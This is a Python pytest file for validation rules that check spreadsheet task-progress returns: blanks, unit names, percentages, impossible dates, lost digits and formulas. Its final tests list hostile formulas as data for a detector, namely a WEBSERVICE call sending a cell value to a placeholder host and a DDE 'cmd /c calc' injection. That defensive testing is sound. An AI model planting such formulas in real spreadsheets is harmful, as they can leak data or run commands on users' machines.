"""Rules of group E, first part: blanks, units, percentages, dates, numbers, formulas."""

from dataclasses import replace
from datetime import date
from typing import Any

import pytest

from officekit.checking.submission_rule import SubmissionRule
from officekit.checking.submission_subject import SubmissionSubject
from officekit.model.packet import Role
from tests.checking.submission_answers import RULES, E, W, answer, everything, families, found
from tests.checking.submission_subjects import Return


def test_every_entry_of_group_e_has_its_rule() -> None:
    assert sorted(RULES) == [f"SB5{number:02}" for number in range(1, 25)]
    for code, rule in RULES.items():
        assert issubclass(rule, SubmissionRule)
        assert rule.entry == f"E{code[3:]}"
        for part in ("为什么", "不好", "改为"):
            assert part in (rule.__doc__ or "")


def test_a_proper_return_is_not_remarked_upon() -> None:
    assert everything(Return().subject()) == []


def test_an_unfilled_return_is_left_to_another_rule() -> None:
    assert everything(Return().unfilled().subject()) == []


# SB501 ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", ["", "无", "/", "-", "——", "N/A", "同上", "略", "暂无。", "无变化"]
)
def test_a_lead_unit_must_tell_its_progress(text: str) -> None:
    subject = answer("K2", "progress", text).subject()
    assert found("SB501", subject) == [(E, 5, 11, text, None)]


def test_a_lead_unit_must_tell_the_status() -> None:
    assert found("SB501", answer("K2", "status", "").subject()) == [(E, 5, 9, "", None)]


@pytest.mark.parametrize(("role", "said"), [(Role.LEAD, "牵头"), (Role.RESPONSIBLE, "负责")])
def test_a_responsible_unit_must_tell_as_a_lead_unit(role: Role, said: str) -> None:
    subject = answer("K2", "progress", "").subject()
    rows = [
        replace(row, issued=replace(row.issued, role=role)) if row.issued else row
        for row in subject.submission.rows
        if row.key == "K2"
    ]
    subject = replace(subject, submission=replace(subject.submission, rows=tuple(rows)))
    (finding,) = RULES["SB501"]().check(subject)
    assert f"由贵单位{said}，进展情况没有填写。" in finding.message


def test_a_supporting_unit_may_leave_its_answers_blank() -> None:
    subject = answer("K4", "status", "").put("K4", "progress", "").subject()
    assert found("SB501", subject) == []


def test_problems_may_be_none_and_a_task_that_has_not_begun_has_no_progress() -> None:
    part = answer("K1", "problems", "无").put("K1", "next_steps", "/")
    part.put("K2", "status", "未启动").put("K2", "completion", "0%").put("K2", "progress", "")
    assert found("SB501", part.subject()) == []


# SB502–SB506 ------------------------------------------------------------------------------------


def proposal(lead: str, support: str = "") -> SubmissionSubject:
    part = Return().extra_row(10, {"title": "新建公厕", "lead": lead, "support": support})
    return part.subject(registry=families())


def edited(lead: str) -> SubmissionSubject:
    return answer("K1", "lead", lead).subject(registry=families())


def test_an_unknown_unit_of_a_proposed_task_is_told() -> None:
    subject = proposal("区交通输运局")
    assert found("SB502", subject) == [(W, 10, 6, "区交通输运局", None)]
    (finding,) = RULES["SB502"]().check(subject)
    assert "区交通运输局" in finding.hint


def test_an_unknown_unit_in_an_edited_cell_is_told() -> None:
    assert found("SB502", edited("区畜牧中心")) == [(W, 4, 6, "区畜牧中心", None)]


def test_another_spelling_of_a_unit_is_told() -> None:
    subject = proposal("区水利局", "区财政局")
    assert found("SB503", subject) == [(W, 10, 6, "区水利局", "区水务局")]


def test_a_unit_of_another_level_is_told() -> None:
    subject = proposal("市水务局")
    assert found("SB504", subject) == [(W, 10, 6, "市水务局", "区水务局")]
    assert found("SB502", subject) == []


@pytest.mark.parametrize("group", ["相关单位", "各镇街"])
def test_a_group_can_not_lead(group: str) -> None:
    assert found("SB505", proposal(group)) == [(W, 10, 6, group, None)]


def test_units_are_listed_with_one_separator() -> None:
    text = "区水务局/区财政局，区教育局"
    expected = "区水务局、区财政局、区教育局"
    assert found("SB506", proposal(text)) == [(W, 10, 6, text, expected)]


def test_units_do_not_stand_in_running_text() -> None:
    text = "由区教育局牵头负责"
    assert found("SB506", proposal(text)) == [(W, 10, 6, text, None)]


def test_registered_units_are_right_and_labels_are_no_tasks() -> None:
    subject = proposal("区水务局", "区教育局、区财政局")
    for code in ("SB502", "SB503", "SB504", "SB505", "SB506"):
        assert found(code, subject) == []
    label = Return().extra_row(10, {"lead": "填表人：周一帆"}, label=True)
    assert found("SB502", label.subject(registry=families())) == []


# SB507–SB509 ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "percent"),
    [
        ("７５％", "75%"),
        ("75 %", "75%"),
        ("75.0%", "75%"),
        ("075%", "75%"),
        ("百分之七十五", "75%"),
        ("百分之75", "75%"),
        ("百分之百", "100%"),
        ("66.60%", "66.6%"),
        ("75\u200b%", "75%"),
    ],
)
def test_a_percentage_in_another_form_is_put_right(text: str, percent: str) -> None:
    subject = answer("K1", "completion", text, number=None, raw="").subject()
    assert found("SB507", subject) == [(W, 4, 10, text, percent)]
    assert found("SB508", subject) == []
    assert found("SB509", subject) == []


@pytest.mark.parametrize("text", ["约75%", "七成", "过半", "3个", "75%以上", "约5亿元", "基本完成"])
def test_an_estimate_is_no_percentage(text: str) -> None:
    assert found("SB507", answer("K1", "completion", text).subject()) == [(E, 4, 10, text, None)]


def test_a_sign_for_nothing_is_told_of_but_refuses_nothing() -> None:
    assert found("SB507", answer("K1", "completion", "/").subject()) == [(W, 4, 10, "/", "")]


@pytest.mark.parametrize(
    ("text", "number", "percent"),
    [("75", None, "75%"), ("75", 75.0, "75%"), ("0.75", None, "75%"), ("８０", None, "80%")],
)
def test_a_percentage_without_its_sign_is_put_right(
    text: str, number: float | None, percent: str
) -> None:
    subject = answer("K1", "completion", text, number=number).subject()
    assert found("SB508", subject) == [(W, 4, 10, text, percent)]


def test_a_share_in_a_cell_without_percentage_format_is_put_right() -> None:
    part = answer("K1", "completion", "75%", number=0.75, raw="0.75").sheet(percent=frozenset())
    assert (W, 4, 10, "0.75", "75%") in found("SB508", part.subject())


def test_a_share_is_right_where_the_format_is_not_known() -> None:
    part = answer("K1", "completion", "75%", number=0.75, raw="0.75").as_xls()
    assert found("SB508", part.subject()) == []


def test_a_share_that_no_format_shows_as_percentage_is_put_right() -> None:
    part = answer("K1", "completion", "0.75", number=0.75).as_xls()
    assert found("SB508", part.subject()) == [(W, 4, 10, "0.75", "75%")]


def test_a_percentage_a_hundred_times_too_large_is_refused() -> None:
    subject = answer("K1", "completion", "7500%").subject()
    assert found("SB508", subject) == [(E, 4, 10, "7500%", "75%")]
    assert found("SB509", subject) == []


def test_seventy_five_in_a_percentage_cell_shows_a_hundred_times_as_much() -> None:
    subject = answer("K1", "completion", "7500%", number=75.0, raw="75").subject()
    assert found("SB508", subject) == [(E, 4, 10, "7500%", "75%")]


def test_a_one_can_be_read_in_two_ways() -> None:
    assert found("SB508", answer("K1", "completion", "1").subject()) == [(E, 4, 10, "1", None)]


def test_less_than_one_percent_is_worth_a_look() -> None:
    subject = answer("K1", "completion", "0.75%", number=0.0075, raw="0.0075").subject()
    assert found("SB508", subject) == [(W, 4, 10, "0.75%", None)]


@pytest.mark.parametrize("text", ["0%", "5%", "37.5%", "99%", "100%"])
def test_a_percentage_is_right(text: str) -> None:
    subject = answer("K1", "completion", text).subject()
    for code in ("SB507", "SB508", "SB509"):
        assert found(code, subject) == []


@pytest.mark.parametrize("text", ["120%", "-5%", "101%", "－５％"])
def test_a_percentage_out_of_range_is_refused(text: str) -> None:
    assert found("SB509", answer("K1", "completion", text).subject()) == [(E, 4, 10, text, None)]


def test_a_percentage_lower_than_before_is_told() -> None:
    previous = {"K1": {"completion": "60%"}, "K2": {"completion": "40%"}, "K3": {"completion": ""}}
    subject = Return().subject(previous=previous)
    assert found("SB509", subject) == [(W, 4, 10, "40%", None)]


# SB510–SB512 ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "printed"),
    [
        ("已于2023年6月31日开工建设。", "2023年6月31日"),
        ("2月30日完成招标工作。", "2月30日"),
        ("2023.13.1印发实施方案。", "2023.13.1"),
        ("2023-09-31前报区政府审定。", "2023-09-31"),
        ("13月5日完成验收工作。", "13月5日"),
    ],
)
def test_a_date_that_no_calendar_has_is_told(text: str, printed: str) -> None:
    assert found("SB510", answer("K1", "progress", text).subject()) == [(W, 4, 11, printed, None)]


@pytest.mark.parametrize(
    "text",
    [
        "2月29日完成招标工作。",
        "2023年8月31日开工，10月30日完工。",
        "软件升级到2023.9版。",
        "第31次会议",
    ],
)
def test_a_date_of_the_calendar_is_right(text: str) -> None:
    assert found("SB510", answer("K1", "progress", text).subject()) == []


def test_a_serial_number_in_a_text_column_is_told() -> None:
    subject = answer("K1", "progress", "45838", number=45838).subject()
    assert found("SB510", subject) == [(W, 4, 11, "45838", "2025-06-30")]


@pytest.mark.parametrize(
    ("text", "expected"),
    [("45838", "2025-06-30"), ("25.6.30", None), ("2025年6月31日", None)],
)
def test_the_deadline_of_a_proposed_task_is_looked_at(text: str, expected: str | None) -> None:
    subject = Return().extra_row(10, {"title": "新建公厕", "deadline": text}).subject()
    assert found("SB510", subject) == [(W, 10, 8, text, expected)]


def test_usual_deadlines_of_a_proposed_task_are_right() -> None:
    for text in ("2025年6月底", "长期坚持", "2025.6.30", "2025年上半年", "2025-06-30"):
        subject = Return().extra_row(10, {"title": "新建公厕", "deadline": text}).subject()
        assert found("SB510", subject) == []


def test_a_text_that_became_a_date_is_told() -> None:
    rows = {4: {11: date(2023, 3, 4)}}
    part = answer("K1", "progress", "2023-03-04").sheet(rows=rows)
    assert found("SB511", part.subject()) == [(W, 4, 11, "2023-03-04", None)]


def test_a_date_typed_as_text_stays_one() -> None:
    assert found("SB511", answer("K1", "progress", "2023-03-04").subject()) == []


def test_a_number_that_lost_digits_is_refused() -> None:
    number = 123456789012345680.0
    subject = answer("K1", "person", "123456789012345680", number=number).subject()
    assert found("SB512", subject) == [(E, 4, 14, "123456789012345680", None)]


def test_a_number_shown_with_an_exponent_is_told() -> None:
    part = answer("K1", "next_steps", "13900000000", number=13900000000.0)
    part.sheet(scientific=frozenset({(4, 13)}))
    assert found("SB512", part.subject()) == [(W, 4, 13, "13900000000", None)]


def test_a_short_number_as_person_may_have_lost_its_zeros() -> None:
    subject = answer("K1", "person", "7", number=7).subject()
    assert found("SB512", subject) == [(W, 4, 14, "7", None)]


def test_digits_typed_as_text_are_right() -> None:
    assert found("SB512", answer("K1", "person", "007").subject()) == []
    assert found("SB512", answer("K1", "person", "68123456", number=68123456).subject()) == []


# SB513, SB514, SB523 ----------------------------------------------------------------------------


def formula(text: str, value: str, **how: Any) -> SubmissionSubject:
    part = answer("K1", "completion", value, formula=text)
    return part.sheet(formulas={(4, 10): text}, **how).subject()


def test_a_formula_with_its_result_is_told() -> None:
    assert found("SB513", formula("3/4", "75%")) == [(W, 4, 10, "=3/4", None)]


def test_a_formula_without_result_is_refused() -> None:
    subject = formula("SUM(A1:A3)", "", uncached=frozenset({(4, 10)}))
    assert found("SB513", subject) == [(E, 4, 10, "=SUM(A1:A3)", None)]


def test_a_formula_that_reads_another_file_is_refused() -> None:
    for text in ("[1]汇总!B3", r"'C:\台账\[台账.xlsx]汇总'!B3"):
        assert found("SB513", formula(text, "75%")) == [(E, 4, 10, f"={text}", None)]


def test_values_are_no_formulas() -> None:
    assert found("SB513", Return().subject()) == []


def test_an_error_value_is_refused() -> None:
    part = answer("K1", "completion", "#REF!", formula="Z9/0")
    subject = part.sheet(errors=frozenset({(4, 10)}), formulas={(4, 10): "Z9/0"}).subject()
    assert found("SB514", subject) == [(E, 4, 10, "#REF!", None)]
    assert found("SB513", subject) == []


def test_an_error_value_in_a_text_file_is_refused() -> None:
    assert found("SB514", answer("K1", "progress", "#N/A").subject()) == [(E, 4, 11, "#N/A", None)]
    assert found("SB514", answer("K1", "progress", "#1楼已封顶").subject()) == []


@pytest.mark.parametrize(
    "text",
    [
        'WEBSERVICE("http://example.test/?"&A1)',
        'HYPERLINK("http://example.test","查看")',
        'INDIRECT("[a.xlsx]Sheet1!A1")',
        "cmd|'/c calc'!A0",
        'DDE("soffice","x","y")',
    ],
)
def test_a_formula_that_reaches_out_is_refused(text: str) -> None:
    subject = formula(text, "1")
    assert found("SB523", subject) == [(E, 4, 10, f"={text}", None)]
    assert found("SB513", subject) == []


def test_a_formula_that_only_counts_is_not_dangerous() -> None:
    assert found("SB523", formula('IF(A1>0,"CALL(1)"&B1,SUM(B2:B3))', "1")) != []
    assert found("SB523", formula("ROUND(SUM(B2:B3)/4,2)", "1")) == []
